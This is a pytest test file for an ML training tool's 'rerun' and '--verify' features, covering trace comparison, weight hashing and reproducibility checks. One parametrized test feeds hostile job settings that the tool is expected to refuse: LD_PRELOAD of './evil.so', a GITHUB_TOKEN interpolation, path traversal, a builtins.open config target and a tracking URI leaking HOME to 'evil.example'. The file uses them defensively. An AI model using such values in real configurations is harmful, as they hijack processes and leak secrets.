"""A run once more: its trace, what is different from then, and whether its steps are the same."""

import json
import math
import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import torch
from pytorch_lightning import LightningModule

from regente.inference.rerun import compare
from regente.jobs.job import freeze
from regente.jobs.trace_file import read_trace
from regente.training.callbacks.trace import STEPS, Trace, weights_hash
from tests.conftest import Ended
from tests.jobs.test_trust import unsigned
from tests.training.test_fit import jobs, until

Run = Callable[..., Ended]
FAST = ["digits_mlp", "trainer.max_epochs=2", "trainer.accelerator=cpu", "tracking.log_model=none"]
OWN = """
import torch
from torch import nn

class Own(nn.Module):
    def __init__(self, num_classes):
        super().__init__()
        self.line = nn.Linear(784, num_classes)

    def forward(self, x):
        return self.line(x.flatten(1)){more}
"""


def line(step: int, loss: float, weights: str = "a", **more: Any) -> dict[str, Any]:
    return {"step": step, "losses": [loss], "weights": weights, **more}


def test_two_traces_are_equal_close_or_different_from_a_step_on() -> None:
    then = [
        line(1, 2.5),
        line(2, math.nan),
        {"step": 2, "epoch": 1, "metrics": {"val/acc": 0.5}, "weights": "b"},
    ]
    assert compare(then, then).text == "equal to the bit: weights, and losses at 3 points of 2 steps"
    other = [
        line(1, 2.5),
        line(2, math.nan),
        {"step": 2, "epoch": 1, "metrics": {"val/acc": 0.5}, "weights": "c"},
    ]
    assert compare(then, other).text.startswith("equal within 1e-05")
    assert compare(then, other).text.endswith("other bits since step 2")
    near = compare(then, [line(1, 2.500001), *then[1:]])
    assert (near.exit_code, near.text.endswith("other bits since step 1")) == (0, True)
    far = compare(then, [line(1, 2.6), *then[1:]])
    assert (far.exit_code, far.text) == (1, "differs since step 1: loss 2.5 then, 2.6 now")
    last = compare(then, [*then[:2], {**then[2], "metrics": {"val/acc": 0.4}}])
    assert last.text == "differs since step 2: val/acc 0.5 then, 0.4 now"
    assert compare(then, then[:2]).exit_code == 1
    call = [{"step": 16, "losses": [1.0] * 16}]
    assert compare(call, [{"step": 16, "losses": [1.0] * 9 + [2.0] * 7}]).text.startswith(
        "differs since step 10"
    )
    assert compare([line(1, 2.5)], [line(1, math.nan)]).exit_code == 1
    weights = [{"step": 1, "weights": "a"}]
    same = compare(weights, weights)
    assert same.text.startswith(
        "equal to the bit: weights at 1 points of 1 steps; the task returns no losses"
    )
    assert compare(weights, [{"step": 1, "weights": "b"}]).exit_code == 1


def test_the_hash_of_the_weights_sees_every_bit_name_and_buffer() -> None:
    torch.manual_seed(0)
    model = torch.nn.Sequential(torch.nn.Linear(3, 2), torch.nn.BatchNorm1d(2)).to(torch.bfloat16)
    before = weights_hash(model)
    assert len(before) == 16 and weights_hash(model) == before
    with torch.no_grad():
        model[1].running_mean[1] += 1
    assert weights_hash(model) != before
    assert weights_hash(torch.nn.Sequential(model)) != weights_hash(model)


def test_a_run_that_goes_on_keeps_the_points_up_to_its_step(tmp_path: Path) -> None:
    class Going:
        is_global_zero, global_step = True, 5

    file = tmp_path / "trace.jsonl"
    file.write_text("".join(json.dumps(line(step, 1.0)) + "\n" for step in (1, 2, 5, 10)) + '{"step": 2')
    trace = Trace(file)
    trace.on_train_start(Going(), LightningModule())  # type: ignore[arg-type]
    assert [each["step"] for each in read_trace(file)] == [1, 2, 5]
    assert trace.steps[trace.due] == 10


def test_a_run_leaves_its_trace_and_comes_out_the_same_to_the_bit(regente: Run, project: Path) -> None:
    assert regente("train", *FAST, "tracking=none").code == 0
    (job,) = jobs(project)
    points = read_trace(job / "trace.jsonl")
    steps = {each["step"] for each in points if "losses" in each}
    assert [each["epoch"] for each in points if "epoch" in each] == [1, 2]
    assert len(steps) >= 2 and points[-1]["step"] >= max(steps)
    assert all(len(each["weights"]) == 16 for each in points[:1])
    assert all(any(wanted in range(step - 16, step + 1) for wanted in STEPS) for step in steps)
    before = sorted(project.rglob("*"))

    ended = regente("rerun", "latest", "--verify")
    assert ended.code == 0, ended.out + ended.err
    assert ended.out.splitlines()[-1].startswith("equal to the bit: weights, and losses at")
    assert ended.err == ""
    assert sorted(project.rglob("*")) == before

    ended = regente("rerun", "latest")
    assert ended.code == 0, ended.err
    first, second = jobs(project)
    results = [json.loads((each / "result.json").read_text())["metrics"] for each in (first, second)]
    assert results[0] == results[1]
    assert json.loads((second / "job.json").read_text())["rerun_of"] == str(first.relative_to(project))
    assert [p["weights"] for p in read_trace(second / "trace.jsonl")[-1:]] == [points[-1]["weights"]]


def test_a_changed_model_differs_since_its_first_step_and_a_run_without_a_trace_says_so(
    regente: Run, project: Path
) -> None:
    (project / "own_models.py").write_text(OWN.format(more=""))
    own = [
        "model._target_=own_models.Own",
        "~model.widths",
        "~model.dropout",
        "~model.input_shape",
        "trainer.steps_per_call=1",
    ]
    ended = regente("train", *FAST, *own, "tracking=none")
    assert ended.code == 0, ended.err
    (project / "own_models.py").write_text(OWN.format(more=" * 1.001"))
    ended = regente("rerun", "latest", "--verify")
    assert ended.code == 1
    assert ended.out.splitlines()[-1].startswith("differs since step 1: loss "), ended.out
    (project / "own_models.py").write_text(OWN.format(more=" * 1.0000001"))
    assert regente("rerun", "latest", "--verify", "--steps", "2").out.splitlines()[-1].startswith("equal")

    (jobs(project)[0] / "trace.jsonl").unlink()
    ended = regente("rerun", "latest", "--verify")
    assert ended.code == 2
    assert len(ended.lines) == 1 and "there is no trace.jsonl" in ended.err


@pytest.mark.slow
@pytest.mark.usefixtures("store")
def test_a_run_whose_directory_is_gone_is_verified_from_its_artifacts(regente: Run, project: Path) -> None:
    assert regente("train", *FAST).code == 0
    (job,) = jobs(project)
    until(lambda: json.loads((job / "recorded.json").read_text()).get("complete") is True)
    run = json.loads((job / "recorded.json").read_text())["run_id"]
    ended = regente("rerun", run[:8], "--verify")
    assert (
        ended.out.splitlines()[0]
        == "code: unknown, it is not in a git repository; --verify compares the results"
    )
    shutil.rmtree(job)
    ended = regente("rerun", run[:8], "--verify")
    assert ended.code == 0, ended.err
    assert ended.out.splitlines()[-1].startswith("equal to the bit"), ended.out
    assert regente("rerun", "0" * 8, "--verify").code == 6


@pytest.mark.slow
def test_another_number_of_threads_is_said(regente: Run, project: Path) -> None:
    assert regente("train", *FAST, "tracking=none").code == 0
    file = jobs(project)[0] / "torch.json"
    threads = json.loads(file.read_text())["threads"]
    assert threads == 1
    ended = subprocess.run(
        [sys.executable, "-m", "regente", "rerun", "latest", "--verify"],
        env={**os.environ, "OMP_NUM_THREADS": "2"}, capture_output=True, text=True, timeout=200, check=False,
    )  # fmt: skip
    assert "machine: threads 1 then, 2 now" in ended.stdout
    assert ended.stdout.splitlines()[-1].startswith(("equal", "differs since step"))


@pytest.mark.parametrize(
    ("changes", "where"),
    [
        ({"env": {"LD_PRELOAD": "./evil.so"}}, "hydra.job.env_set.LD_PRELOAD"),
        ({"env": {"OMP_TOOL_LIBRARIES": "./evil.so"}}, "hydra.job.env_set.OMP_TOOL_LIBRARIES"),
        ({"env": {"OMP_NUM_THREADS": "${oc.env:GITHUB_TOKEN}"}}, "hydra.job.env_set.OMP_NUM_THREADS"),
        ({"env": {"TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD": "1"}}, "TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD"),
        ({"experiment": "../../x"}, "../../x"),
        ({"experiment": "/tmp/x"}, "/tmp/x"),
        ({"config": "data: {_target_: builtins.open, file: canary, mode: w}"}, "builtins.open"),
        ({"config": "tracking: {uri: 'http://evil.example/${oc.env:HOME}'}"}, "evil.example"),
    ],
)
@pytest.mark.parametrize("words", [[], ["--verify"]])
def test_a_hostile_job_directory_is_refused(
    changes: dict[str, Any], where: str, words: list[str], regente: Run, project: Path
) -> None:
    from regente.config.compose import compose

    facts = {"experiment": "x", "overrides": [], "command": [], "choices": {}, **changes}
    config = facts.pop("config", "") or compose("digits_mlp", ["tracking=none"]).yaml()
    found = freeze(config, project / "found", "job", **facts)
    if "experiment" not in changes:
        unsigned(found)
    before = sorted(found.path.rglob("*"))
    ended = regente("rerun", str(found.path), *words)
    assert ended.code == 2 and where in ended.err and len(ended.lines) <= 8, ended.err
    assert sorted(found.path.rglob("*")) == before
    assert {path.name for path in project.iterdir()} <= {"found", "out", "err", "cache"}


def test_a_run_that_found_its_learning_rate_is_replayed_with_what_it_found(
    regente: Run, project: Path
) -> None:
    assert regente("train", *FAST, "trainer.find_lr=true", "scheduler=onecycle", "tracking=none").code == 0
    ended = regente("rerun", "latest", "--verify")
    assert ended.code == 0 and ended.out.splitlines()[-1].startswith("equal to the bit"), (
        ended.out + ended.err
    )


def test_a_run_that_went_on_is_verified_across_the_place(regente: Run, project: Path) -> None:
    assert regente("train", *FAST, "trainer.max_epochs=1", "tracking=none").code == 0
    ended = regente("resume", "latest", "trainer.max_epochs=2")
    assert ended.code == 0, ended.err
    (job,) = jobs(project)
    points = read_trace(job / "trace.jsonl")
    assert [each["epoch"] for each in points if "epoch" in each] == [1, 2]
    keys = [(each["step"], each.get("epoch")) for each in points]
    assert len(set(keys)) == len(keys)
    ended = regente("rerun", "latest", "--verify")
    assert ended.code == 0 and ended.out.splitlines()[-1].startswith("equal to the bit"), (
        ended.out + ended.err
    )
    assert f"of {points[-1]['step']} steps" in ended.out
